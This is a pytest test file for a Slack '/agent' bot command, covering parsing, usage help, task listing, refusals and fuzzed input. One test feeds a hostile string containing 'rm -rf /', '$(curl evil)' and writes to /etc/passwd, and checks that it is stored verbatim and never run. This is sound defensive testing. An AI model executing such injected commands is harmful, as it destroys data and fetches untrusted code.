"""The `/agent` command: parsing, help, listing, and bad input that changes nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot.commands import parse
from jobs.exceptions import BadRequest
from jobs.models import Task
from jobs.states import TaskState
from sandbox.fakeslack import FakeSlack
from tests.conftest import APPROVER, STRANGER
from tests.slackclient import SlackUser


def task_count(user: SlackUser) -> int:
    with user.services.db.session() as session:
        return int(session.execute(select(func.count()).select_from(Task)).scalar_one())


def test_parse_run_with_repo_anywhere() -> None:
    """`--repo` is taken out of the description wherever it appears."""
    command = parse("run --repo acme/calc fix the rounding in totals")
    assert (command.name, command.repo, command.text) == (
        "run",
        "acme/calc",
        "fix the rounding in totals",
    )
    assert parse("run fix it --repo=acme/calc").repo == "acme/calc"


def test_parse_task_keys_and_states() -> None:
    """Task ids are accepted as T-12, t12 or 12; list takes a state and --mine."""
    assert parse("status T-12").task_id == 12
    assert parse("approve t7 ship it").task_id == 7
    assert parse("approve 7 ship it").text == "ship it"
    listing = parse("list awaiting approval --mine")
    assert listing.state == TaskState.AWAITING_APPROVAL and listing.mine


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("frobnicate", "Unknown command `frobnicate`"),
        ("run", "Describe the work"),
        ("run   --repo acme/calc", "Describe the work"),
        ("status", "Which task?"),
        ("status twelve", "is not a task id"),
        ("list sleeping", "Unknown state `sleeping`"),
    ],
)
def test_parse_rejects_bad_input(text: str, message: str) -> None:
    """Bad input raises a short, specific message."""
    with pytest.raises(BadRequest, match=message):
        parse(text)


def test_empty_text_and_help_show_usage(user: SlackUser) -> None:
    """`/agent` alone and `/agent help` answer with usage, privately."""
    for text in ("", "help"):
        response = user.command(text)
        assert response.status == 200
        assert "/agent run <description>" in user.reply_text(response)
    assert task_count(user) == 0


@pytest.mark.parametrize(
    "text",
    ["frobnicate now", "run", "status T-99", "approve", "list nonsense", "retry T-x"],
)
def test_bad_commands_get_a_short_ephemeral_answer_and_write_nothing(
    user: SlackUser, slack: FakeSlack, text: str
) -> None:
    """Each bad command is answered in one short line, with no trace, and nothing changes."""
    response = user.command(text)
    reply = user.reply_text(response)
    assert response.status == 200
    assert reply and len(reply) < 200
    assert "Traceback" not in reply and "Error" not in reply.split(":")[0]
    assert task_count(user) == 0
    assert slack.calls_to("chat.postMessage") == []


def test_unknown_repo_is_refused(user: SlackUser) -> None:
    """A repo that is not configured is named in the refusal."""
    response = user.command("run fix it --repo evil/elsewhere")
    assert "Unknown repo `evil/elsewhere`" in user.reply_text(response)
    assert task_count(user) == 0


def test_long_unicode_and_shell_metacharacters_are_kept_verbatim(
    user: SlackUser, slack: FakeSlack
) -> None:
    """A 4000-character description with unicode and shell syntax is stored as typed."""
    hostile = "fix discount; rm -rf / && $(curl evil) `id` | tee /etc/passwd > x < y 'q\" "
    text = hostile + "日本語 ünïcödé 🚀 " + "x" * (4000 - len(hostile) - 16)
    response = user.command(f"run {text}")
    assert "T-1 queued" in user.reply_text(response)
    with user.services.db.session() as session:
        stored = session.execute(select(Task.description)).scalar_one()
    assert stored == text.strip()
    user.work("default", "plan")
    card = user.card()
    # Slack accepted every message (the fake enforces Slack's limits) and the card
    # shows the text escaped, not interpreted.
    assert all(c.status == 200 for c in slack.calls)
    assert any("The full description is in the thread" in str(block) for block in card.blocks)
    assert "&lt; y" in str(card.blocks)
    first = user.thread()[0]
    assert "&lt; y" in first.text and first.text.count("x") >= 3900
    # Nothing in it was run: the redirections never created their files.
    worktree = Path(user.services.config.agent.workspace_dir) / "worktrees" / "acme_calc" / "T-1"
    assert (worktree / "pricing.py").is_file()
    assert not (worktree / "x").exists() and not Path("x").exists()


def test_list_and_status_are_private_and_accurate(user: SlackUser) -> None:
    """`list` shows recent tasks with states; `status` shows one task's card ephemerally."""
    user.command("run fix the discount calculation")
    user.command("run another discount thing")
    user.work("default", "plan")
    response = user.command("list")
    listing = str(response.body)
    assert "T-1" in listing and "T-2" in listing and "awaiting approval" in listing
    response = user.command("list awaiting_approval --mine", user=APPROVER)
    assert "No tasks" in str(response.body)
    response = user.command("status T-2", user=STRANGER)
    payload = json.loads(response.body)
    assert payload["response_type"] == "ephemeral"
    assert payload["blocks"][0]["text"]["text"] == "T-2 · another discount thing"


def test_aws_commands_say_not_configured(user: SlackUser) -> None:
    """AWS subcommands answer plainly until AWS is configured."""
    response = user.command("aws status")
    assert "not configured" in user.reply_text(response)


def test_commands_outside_accepted_channels_are_refused(user: SlackUser, services: object) -> None:
    """With an allow-list of channels, other channels get a refusal and nothing is written."""
    from jobs.config import SlackConfig

    user.services.config = user.services.config.model_copy(
        update={"slack": SlackConfig(channels=("CONLYHERE",))}
    )
    from bot.app import build_app

    user.app = build_app(user.services)
    response = user.command("run fix the discount calculation")
    assert "doesn't take commands in this channel" in user.reply_text(response)
    assert task_count(user) == 0


@given(st.text(max_size=400))
def test_parser_either_parses_or_explains(text: str) -> None:
    """Any text at all either parses or raises a short BadRequest, nothing else."""
    try:
        parse(text)
    except BadRequest as exc:
        assert 0 < len(str(exc)) < 200


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    st.one_of(
        st.text(max_size=300),
        st.builds(
            lambda verb, rest: f"{verb} {rest}",
            st.sampled_from(["run", "status", "list", "approve", "reject", "retry", "cancel"]),
            st.text(max_size=200),
        ),
    )
)
def test_any_command_text_gets_an_answer_never_a_trace(user: SlackUser, text: str) -> None:
    """Whatever is typed after /agent, Slack gets a 200 and a message without a trace."""
    response = user.command(text)
    assert response.status == 200
    reply = user.reply_text(response) or str(response.body)
    assert reply
    assert "Traceback" not in reply and "Exception" not in reply
